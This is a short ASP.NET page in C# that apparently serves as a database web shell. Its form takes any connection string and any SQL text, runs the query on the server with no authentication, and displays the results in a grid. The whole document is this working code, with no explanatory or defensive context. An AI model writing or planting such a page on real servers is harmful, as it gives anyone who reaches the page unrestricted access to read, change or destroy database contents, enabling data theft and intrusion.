<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
void Q(object s, EventArgs e) {
  using (var c = new SqlConnection(conn.Text)) {
    c.Open();
    var r = new SqlCommand(sql.Text, c).ExecuteReader();
    grid.DataSource = r; grid.DataBind();
  }
}
</script>
<form runat="server"><asp:TextBox id="conn" runat="server"/><asp:TextBox id="sql" TextMode="MultiLine" runat="server"/><asp:Button OnClick="Q" runat="server"/><asp:GridView id="grid" runat="server"/></form>
